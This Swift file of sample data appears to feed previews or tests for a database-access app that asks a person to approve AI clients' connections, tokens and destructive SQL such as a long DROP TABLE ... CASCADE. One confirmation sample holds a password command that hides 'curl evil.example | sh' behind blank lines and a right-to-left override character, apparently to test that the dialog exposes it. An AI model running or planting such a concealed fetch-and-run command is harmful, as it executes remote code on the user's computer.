import ShellRules

/// What the pictures show: connections and clients of one person. They are decoded from the
/// daemon's messages, as the app decodes them.
enum Samples {
    static let now = moment("2026-11-20T12:00:08.000Z", uptimeSeconds: 1_000)

    static func moment(_ instant: String, uptimeSeconds: Double) -> Moment {
        guard let wall = Instant.date(instant) else { fatalError("\(instant) is no instant") }
        return Moment(wall: wall, uptimeSeconds: uptimeSeconds)
    }

    static func read<Value: Decodable>(_ json: String) -> Value {
        do {
            return try JSONText.decode(Value.self, from: json)
        } catch {
            fatalError("a sample is not of its form: \(error)")
        }
    }

    static let names = [
        ("Shop", "postgres", "readOnly"), ("Shop (staging)", "postgres", "readWrite"), ("Warehouse", "mysql", "readOnly"),
        ("Demo", "sqlite", "readOnly"), ("Ledger 2026", "postgres", "readOnly"), ("Analytics EU", "postgres", "readOnly"),
        ("Analytics US", "postgres", "readOnly"), ("CRM replica", "mysql", "readOnly"), ("Weblog", "mysql", "readWrite"),
        ("Photos", "sqlite", "readOnly"), ("Payroll", "postgres", "blocked"), ("Sensors", "postgres", "readWrite"),
        ("A connection that somebody gave the longest name that there is!", "postgres", "readWrite"), ("Wiki", "mysql", "readOnly"),
    ]

    static func id(_ number: Int) -> String { "0b6f2f3c-7f52-4d35-9d0c-2f6a1f0d8a\(number + 10)" }

    static func pairing(connections: Int, client: String = "Query Notebook") -> PairingView {
        let listed = names.prefix(connections).enumerated().map { index, name in
            #"{"id":"\#(id(index))","name":"\#(name.0)","engine":"\#(name.1)","externalClients":"\#(name.2)"}"#
        }
        return read(
            """
            {"id":"3f0c9a51-7d0e-4c39-9a55-6f2b1c7d9e10","client":"\(client)",
            "redirect":{"address":"http://127.0.0.1:8123/callback","receiver":"Query Notebook (process 4242)","kind":"loopback"},
            "scope":"readWrite","ticked":[],"connections":[\(listed.joined(separator: ","))],"expires":30,
            "askedAt":"2026-11-20T12:00:00.000Z","expiresAt":"2026-11-20T12:05:00.000Z","waits":false,"serverStarted":false}
            """)
    }

    static func question(
        _ statement: String, reason: [ReasonPart], tables: [String], client: String = "Claude Code", takes: StatementTakes? = nil
    ) -> ApprovalView {
        var view: ApprovalView = read(
            """
            {"id":"k3m9x2pq","kind":"destructive_statement","client":"\(client)","token":"Editor",
            "connection":{"id":"\(id(1))","name":"Shop (staging)","tags":["staging"],"colour":"orange"},
            "means":"This statement runs, once.","statement":{"text":"","class":"destructive","reason":"","reasonParts":[],"tables":[],"characters":0,"lines":0},"askedAt":"2026-11-20T12:00:00.000Z","expiresAt":"2026-11-20T12:05:00.000Z"}
            """)
        view.statement?.text = statement
        view.statement?.reason = reason.map(\.english).joined(separator: " ")
        view.statement?.reasonParts = reason
        view.statement?.tables = tables
        view.statement?.takes = takes
        view.statement?.characters = statement.unicodeScalars.count
        view.statement?.lines = statement.split(separator: "\n", omittingEmptySubsequences: false).count
        return view
    }

    static func firstUse() -> ApprovalView {
        var view = question("", reason: [], tables: [])
        view.kind = .firstUse
        view.means = "Read only, for 8 hours."
        view.statement = nil
        return view
    }

    /// A statement that waits for the person's answer.
    static func request(
        _ number: Int, _ statement: String, class judged: StatementClass = .write, reason: [ReasonPart], tables: [String],
        lacks: MissingAccess,
        runsBy: RequestRunner = .client, takes: [String]
    ) -> AccessRequestView {
        var view: AccessRequestView = read(
            """
            {"id":"request\(number)","client":"Claude Code","program":"claude, zsh","token":null,
            "connection":{"id":"\(id(1))","name":"Shop (staging)","tags":["staging"],"colour":"orange"},
            "lacks":"\(lacks.rawValue)","runsBy":"\(runsBy.rawValue)","means":null,"times":\(number),
            "statement":{"text":"","class":"\(judged.rawValue)","reason":"","reasonParts":[],"tables":[],"takes":{"lines":[],"note":null},"characters":0,"lines":0,
            "parameters":[],"schema":null,"database":null},
            "askedAt":"2026-11-20T12:00:00.000Z","expiresAt":"2026-11-20T12:15:00.000Z"}
            """)
        var asked = question(statement, reason: reason, tables: tables, takes: StatementTakes(lines: takes)).statement
        asked?.class = judged
        if let asked { view.statement?.askedStatement = asked }
        return view
    }

    static let droppedTables = (2001...2023).map { "archive.orders_\($0)" }
    static let longStatement = "DROP TABLE\n" + droppedTables.map { "  \($0)" }.joined(separator: ",\n") + "\nCASCADE"

    static func connection(
        _ number: Int, _ endpoint: String, colour: String? = nil, group: String? = nil, until: String? = nil,
        level: String = "readOnly",
        policy: String = "always"
    ) -> ConnectionView {
        func word(_ text: String?) -> String { text.map { "\"\($0)\"" } ?? "null" }
        return read(
            """
            {"id":"\(id(number))","name":"\(names[number].0)","engine":"\(names[number].1)",\(endpoint),"databases":"own",
            "password":{"kind":"stored"},"revision":1,"statementTimeoutSeconds":20,"rowLimit":500,"writeRowLimit":null,"timeZone":null,
            "colour":\(word(colour)),"group":\(word(group)),"tags":["eu"],"externalClients":{"level":"\(level)","writeUntil":\(word(until)),"now":"\(level)"},
            "aiPolicy":"\(policy)","createdAt":"2026-11-01T12:00:00.000Z","updatedAt":"2026-11-01T12:00:00.000Z"}
            """)
    }

    private static func server(_ host: String, _ port: Int, _ database: String) -> String {
        """
        "host":"\(host)","port":\(port),"socketPath":null,"filePath":null,"database":"\(database)","user":"anna",
        "tls":{"mode":"verify-full","caFile":null}
        """
    }

    static let connections: [ConnectionView] = [
        connection(0, server("db.example.com", 5_432, "shop"), colour: "red", group: "Work"),
        connection(
            1, server("staging.example.com", 5_432, "shop"), colour: "orange", group: "Work", until: "2026-11-20T12:48:00.000Z",
            level: "readWrite"),
        connection(2, server("10.4.0.12", 3_306, "stock"), colour: "#1f9e8f", group: "Work", policy: "askEachTime"),
        connection(4, server("ledger.example.com", 5_432, "ledger_2026"), colour: "purple", policy: "never"),
        connection(10, server("people.example.com", 5_432, "payroll"), level: "blocked"),
        connection(
            3,
            """
            "host":null,"port":null,"socketPath":null,"filePath":"/Users/anna/Library/Application Support/Sallyport/demo.db",
            "database":null,"user":null,"tls":{"mode":"disable","caFile":null}
            """, colour: "green"),
    ]

    static func status(_ state: String, notes: [String] = [], port: Int? = 27_432) -> DaemonStatus {
        var status: DaemonStatus = read(
            """
            {"version":"0.1.0","pid":4242,"instance":"6f1c1d2e-3b4a-4c5d-8e6f-7a8b9c0d1e2f","home":"/Users/anna",
            "startedAt":"2026-11-20T11:00:00.000Z","state":"\(state)","port":null,"secrets":"keychain",
            "passphrase":{"state":"set","chosen":null,"reset":null},"connections":6,"tokens":3,"requestsWaiting":0,"notes":[],"shells":["app"]}
            """)
        status.port = port
        status.notes = notes
        return status
    }

    /// - Parameter chosen: the person has not said yet that it was them.
    static func status(passphrase state: String, chosen: Bool = false, reset: Bool = false) -> DaemonStatus {
        var status = status("ready")
        let by = #""by":"sallyport (process 4711, started by bash) on /dev/ttys003""#
        let who = chosen ? #"{"at":"2026-11-19T09:12:00.000Z",\#(by),"confirmedAt":null}"# : "null"
        let next = #"{"id":"\#(id(60))","at":"2026-11-20T08:30:00.000Z",\#(by),"countsAt":"2026-11-21T08:30:00.000Z"}"#
        status.passphrase = read(#"{"state":"\#(state)","chosen":\#(who),"reset":\#(reset ? next : "null")}"#)
        return status
    }

    static let takenPort = "Port 27432 belongs to nginx (process 812), so HTTP clients must use 45021 for now."

    static let tokens: [TokenView] = [
        token(
            1, "Editor", "sp_bWlud", "readWrite", #"[{"id":"\#(id(1))","name":"Shop (staging)"},{"id":"\#(id(3))","name":"Demo"}]"#,
            "valid"),
        token(2, "Query Notebook", "sp_Zk3aQ", "readOnly", "\"all\"", "valid"),
        token(3, "Old laptop", "sp_9xTr1", "readWrite", "\"all\"", "revoked"),
    ]

    private static func token(
        _ number: Int, _ name: String, _ prefix: String, _ scope: String, _ reach: String, _ state: String
    ) -> TokenView {
        let revoked = state == "revoked" ? "\"2026-11-02T09:00:00.000Z\"" : "null"
        return read(
            """
            {"id":"\(id(number + 40))","name":"\(name)","prefix":"\(prefix)","scope":"\(scope)","connections":\(reach),
            "confirmInClient":false,"createdAt":"2026-11-01T12:00:00.000Z","lastUsedAt":"2026-11-19T16:20:00.000Z",
            "expiresAt":"2026-12-1\(number)T12:00:00.000Z","revokedAt":\(revoked),"client":null,"state":"\(state)"}
            """)
    }

    static let minted: MintedToken = read(
        """
        {"id":"\(id(43))","name":"Editor","prefix":"sp_bWlud","scope":"readWrite","connections":"all","confirmInClient":false,
        "createdAt":"2026-11-20T12:00:00.000Z","lastUsedAt":null,"expiresAt":"2026-12-20T12:00:00.000Z","revokedAt":null,
        "client":null,"state":"valid","token":"sp_bWludGVkLXRva2VuLW1pbnRlZC10b2tlbi1taW50ZWQ"}
        """)

    static let wantsPassphrase = wanted("passphrase", readWriteToken)
    static let wantsPassphraseWithFacts = wanted("passphrase", confirmation.sentence, confirmation.facts)
    static let wantsPassphraseWithLongFacts = wanted("passphrase", longConfirmation.sentence, longConfirmation.facts)
    static let wantsFirstPassphrase = wanted("choose", confirmation.sentence, confirmation.facts)

    private static let readWriteToken =
        "This makes a Read & Write token \"Claude\" that reaches every connection, those saved later too, and expires after 30 days."

    private static func wanted(_ confirm: String, _ sentence: String, _ facts: [ConfirmationFact] = []) -> ControlError {
        do {
            let (sentence, facts) = (try JSONText.encode(sentence), try JSONText.encode(facts))
            return read(
                #"{"code":-33007,"message":"","data":{"confirm":"\#(confirm)","sentence":\#(sentence),"facts":\#(facts)}}"#)
        } catch {
            fatalError("a sample can't be written: \(error)")
        }
    }

    static let wantsConfirmation = wanted("app", #"This lets AI clients write to "Shop" for 30 minutes."#)
    static let wantsConfirmationWithFacts = wanted("app", confirmation.sentence, confirmation.facts)

    static let confirmation: ConfirmationView = read(
        """
        {"id":"9f4c1e02-6a57-4a5e-8c0d-2b1d7e5f9a30","sentence":"This points \\"Shop\\" to the host \\"db.example.net\\" instead of \
        \\"db.example\\".",
        "facts":[{"label":"Connection","value":"Shop","former":null,"form":"line"},
        {"label":"Host","value":"db.example.net","former":"db.example","form":"line"},
        {"label":"Port","value":"5432","former":null,"form":"line"},{"label":"Database","value":"shop","former":null,"form":"line"},
        {"label":"User","value":"anna","former":null,"form":"line"},{"label":"TLS","value":"verify-full","former":null,"form":"line"},
        {"label":"Password","value":"the one that is stored, which is sent there","former":null,"form":"line"}],
        "shell":"terminal","askedAt":"2026-11-20T12:00:00.000Z","expiresAt":"2026-11-20T12:05:00.000Z"}
        """)

    static let longConfirmation: ConfirmationView = read(
        """
        {"id":"9f4c1e02-6a57-4a5e-8c0d-2b1d7e5f9a31","sentence":"This runs a command on this computer, as you, for the password of \
        \\"Shop\\".",
        "facts":[{"label":"Connection","value":"Shop","former":null,"form":"line"},
        {"label":"Command length","value":"57 characters, 13 lines","former":null,"form":"line"},
        {"label":"Password command","value":"pass show shop\\n\\n\\n\\n\\n\\n\\n\\n\\n\\n\\n# \u{202e}harmless\\ncurl evil.example | sh",
        "former":"a stored password, no command","form":"lines"},
        {"label":"Host","value":"db.example","former":null,"form":"line"},
        {"label":"Password","value":"what its command prints, which is sent there","former":null,"form":"line"}],
        "shell":"terminal","askedAt":"2026-11-20T12:00:00.000Z","expiresAt":"2026-11-20T12:05:00.000Z"}
        """)

    static let clients: [ClientView] = [
        read(
            """
            {"id":"bridge:Zq3v8mT1kXc0pWbY","client":"Claude Code","token":null,"transport":"bridge","protocol":"2025-11-25",
            "since":"2026-11-20T11:58:00.000Z","lastSeen":"2026-11-20T12:00:07.000Z","openRequests":1,"sessions":0}
            """),
        read(
            """
            {"id":"\(id(42))","client":"Query Notebook","token":{"id":"\(id(42))","name":"Query Notebook"},"transport":"http",
            "protocol":"2025-06-18","since":"2026-11-20T11:58:00.000Z","lastSeen":"2026-11-20T11:59:58.000Z","openRequests":0,
            "sessions":1}
            """),
    ]
}

extension ReasonPart {
    init(_ code: String, _ values: String...) { self.init(code: code, values: values) }

    fileprivate var english: String {
        let words = code.split(separator: "%@", omittingEmptySubsequences: false)
        return zip(words, values + [""]).map { "\($0)\($1)" }.joined()
    }
}
